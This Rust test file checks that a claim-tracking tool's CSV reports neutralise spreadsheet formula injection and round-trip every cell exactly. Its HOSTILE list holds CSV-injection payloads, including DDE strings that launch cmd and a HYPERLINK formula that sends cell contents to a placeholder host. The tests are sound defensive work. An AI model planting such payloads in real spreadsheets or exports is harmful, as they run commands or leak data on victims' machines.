//! Single cells: made harmless and restored, joined and separated, whatever is in them.

use std::path::Path;

use claimtrail_core::claims::NewClaim;
use claimtrail_core::reports::Layout;
use claimtrail_core::reports::csv::{harmless, restored};
use claimtrail_core::reports::tables::{joined, separated};
use proptest::prelude::*;

use super::{coal, raw, table};
use crate::support::{Desk, claims};

/// Cells that spreadsheets run, misread or break on.
const HOSTILE: [&str; 40] = [
    "",
    "'",
    "''",
    "'=1+1",
    "=1+1",
    "+1",
    "-1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u{feff}=1+1",
    "\u{feff}\u{feff}＝1",
    "\u{feff}'=1+1",
    "\u{feff}",
    "'\u{feff}",
    " =1+1",
    "a,b",
    "a;b",
    "a\"b",
    "\"",
    "\"\"",
    "\"a\"",
    "a\r\nb",
    "a\nb",
    "a\rb",
    "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
    "ends with a backslash \\",
    "; ",
    "\u{202e}desrever",
    "null",
    "1E+02",
    "Көмір, уголь, 煤",
];

/// The strings of the shared folder; none, and a line that says so, where it is absent.
fn shared() -> Vec<String> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/hostile");
    let Ok(naughty) = std::fs::read_to_string(folder.join("naughty-strings.json")) else {
        eprintln!("skipped: {} is not there", folder.display());
        return Vec::new();
    };
    let mut strings: Vec<String> = serde_json::from_str(&naughty).unwrap();
    let payloads = std::fs::read_to_string(folder.join("csv-injection.txt")).unwrap();
    strings.extend(payloads.lines().map(str::to_owned));
    strings
}

fn hostile() -> Vec<String> {
    HOSTILE.iter().map(|text| (*text).to_owned()).chain(shared()).collect()
}

/// Whether a spreadsheet might run it.
fn runs(cell: &str) -> bool {
    let first = cell.trim_start_matches('\u{feff}').chars().next();
    first.is_some_and(|first| "=+-@\t\r＝＋－＠".contains(first))
}

/// The rows written by the csv crate as reports write them, below a header, and read back.
fn round_trip(rows: &[Vec<String>]) -> Vec<Vec<String>> {
    let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
    writer.write_record(vec!["column"; rows.first().map_or(0, Vec::len)]).unwrap();
    for row in rows {
        writer.write_record(row.iter().map(|cell| harmless(cell).into_owned())).unwrap();
    }
    let bytes = writer.into_inner().unwrap();
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let record = |record: csv::StringRecord| record.iter().map(|cell| restored(cell).to_owned()).collect();
    reader.records().map(|read| record(read.unwrap())).collect()
}

#[test]
fn hostile_cells_are_harmless_and_come_back() {
    for cell in hostile() {
        assert!(!runs(&harmless(&cell)), "{cell:?} would run");
        assert_eq!(restored(&harmless(&cell)), cell);
    }
    let rows: Vec<Vec<String>> = hostile().into_iter().map(|cell| vec![cell, "x".to_owned()]).collect();
    assert_eq!(round_trip(&rows), rows);
}

#[test]
fn a_harmless_cell_is_left_alone() {
    for cell in ["", "coal", " =1", "a=1", "1-2", "Көмір"] {
        assert_eq!(harmless(cell), cell);
    }
}

#[test]
fn no_cell_of_a_report_would_run() {
    let (desk, _) = coal::desk();
    for layout in Layout::ALL.iter().copied() {
        let bytes = raw(&desk, layout);
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        for record in reader.records() {
            assert!(record.unwrap().iter().all(|cell| !runs(cell)));
        }
    }
}

#[test]
fn hostile_texts_come_back_from_a_report_as_the_workspace_holds_them() {
    let mut desk = Desk::new();
    let mut recorded = Vec::new();
    for text in hostile() {
        let new = NewClaim {
            statement: text.clone(),
            claimant: Some(text.clone()),
            tags: vec![text.clone(), format!("{text};")],
            ..NewClaim::default()
        };
        // Blank texts and those with NUL are refused; that is tested elsewhere.
        recorded.extend(desk.workspace.record_claim(&desk.checker, new));
    }
    assert!(recorded.len() > 30);
    let table = table(&desk, Layout::Claims);
    assert_eq!(table.rows.len(), recorded.len());
    for (row, claim) in table.rows.iter().zip(&recorded) {
        assert_eq!(row["statement"], claim.body.statement);
        assert_eq!(Some(&row["claimant"]), claim.body.claimant.as_ref());
        assert_eq!(separated(&row["tags"]), claim.body.tags);
    }
    assert_eq!(claims(&desk.workspace).len(), recorded.len());
}

/// Text with what CSV, lists and spreadsheets give a meaning to, more often than chance would have it.
fn awkward() -> impl Strategy<Value = String> {
    let letter = prop_oneof![
        4 => any::<char>(),
        3 => prop::sample::select(vec!['\'', '"', ',', ';', '\\', ' ', '\r', '\n', '\t']),
        3 => prop::sample::select(vec!['=', '+', '-', '@', '＝', '＋', '－', '＠', '\u{feff}']),
    ];
    prop::collection::vec(letter, 0..12).prop_map(|letters| letters.into_iter().collect())
}

proptest! {
    #[test]
    fn any_table_is_read_back_exactly(rows in prop::collection::vec(prop::collection::vec(awkward(), 3), 1..8)) {
        prop_assert_eq!(round_trip(&rows), rows);
    }

    #[test]
    fn any_cell_is_harmless_and_restored(cell in awkward()) {
        let written = harmless(&cell);
        prop_assert!(!runs(&written));
        prop_assert_eq!(restored(&written), &cell);
    }

    #[test]
    fn any_list_is_read_back_exactly(items in prop::collection::vec(awkward(), 0..6)) {
        prop_assume!(items != [""]);
        prop_assert_eq!(separated(&joined(&items)), items);
    }
}
